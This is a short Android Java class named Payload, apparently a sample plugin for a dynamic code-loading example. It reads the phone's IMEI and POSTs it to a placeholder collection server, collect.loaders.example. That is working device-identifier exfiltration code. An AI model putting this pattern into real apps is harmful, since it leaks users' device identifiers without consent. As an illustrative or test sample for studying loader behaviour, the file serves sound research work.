package org.loaders.example;

import android.content.Context;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** What a plugin would be: sends the IMEI to a path that names the way it was loaded. */
public class Payload {
    private Payload() {}

    @SuppressWarnings("deprecation")
    public static void run(Context context, String way) throws IOException {
        TelephonyManager phone =
                (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        URL url = new URL("http://collect.loaders.example/" + way);
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        try (OutputStream body = connection.getOutputStream()) {
            body.write(("imei=" + phone.getDeviceId()).getBytes());
        }
        connection.getResponseCode();
        connection.disconnect();
    }
}
